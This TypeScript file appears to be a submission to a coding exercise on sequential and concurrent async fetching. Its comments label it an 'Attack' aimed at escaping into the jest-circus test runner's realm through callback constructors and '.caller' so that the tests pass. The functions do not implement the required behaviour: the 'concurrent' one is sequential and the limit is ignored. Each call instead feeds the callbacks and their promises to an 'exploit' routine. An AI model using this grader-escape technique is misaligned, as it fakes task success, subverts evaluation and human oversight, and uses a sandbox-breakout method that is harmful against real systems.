// exercise: 07-sequential-vs-concurrent
// Attack: the callbacks the suite passes (fetchOne, fn) are functions of the suite's realm; so
// are the promises they return. fetchOne.constructor, fetchOne.caller and the returned promise's
// constructor's constructor each may evaluate in the realm that holds jest-circus.
// Success: the tests of 07 after the first call pass.
// @payload
let done = false;
function inspect(callback: unknown, returned?: unknown): void {
  if (done) return;
  for (const road of [callback, (() => { try { return (callback as any).caller; } catch { return undefined; } })(), returned]) {
    if (road && !done && exploit(road)) done = true;
  }
}
export async function* streamSequentially<T>(ids: Iterable<string>, fetchOne: (id: string) => Promise<T>): AsyncGenerator<T, void> {
  for (const id of ids) { const p = fetchOne(id); inspect(fetchOne, p); yield await p; }
}
export async function fetchAllConcurrently<T>(ids: Iterable<string>, fetchOne: (id: string) => Promise<T>): Promise<T[]> {
  const results: T[] = [];
  for (const id of ids) { const p = fetchOne(id); inspect(fetchOne, p); results.push(await p); }
  return results;
}
export async function* mapConcurrent<T, R>(source: Iterable<T> | AsyncIterable<T>, limit: number, fn: (item: T) => Promise<R>): AsyncGenerator<R, void> {
  void limit;
  for await (const item of source as AsyncIterable<T>) { const p = fn(item); inspect(fn, p); yield await p; }
}
